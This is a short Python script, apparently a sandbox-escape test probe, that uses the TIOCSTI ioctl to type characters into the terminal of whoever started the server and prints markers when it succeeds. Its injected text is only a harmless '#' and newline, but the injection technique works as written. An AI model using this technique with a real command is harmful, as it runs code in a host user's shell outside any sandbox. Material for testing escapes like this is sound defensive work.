# attack: types a command into the terminal of whoever started the server (TIOCSTI)
# family: ctypes
import fcntl
import os
for fd in [0, 1, 2, *(os.open(path, os.O_RDWR | os.O_NOCTTY) for path in ("/dev/tty", "/dev/console", "/dev/tty1") if os.access(path, os.W_OK))]:
    if os.isatty(fd):
        print("REACHED a terminal", os.ttyname(fd))
        for letter in b"#\n":
            fcntl.ioctl(fd, 0x5412, bytes([letter]))
        print("ESCAPED typed into", os.ttyname(fd))
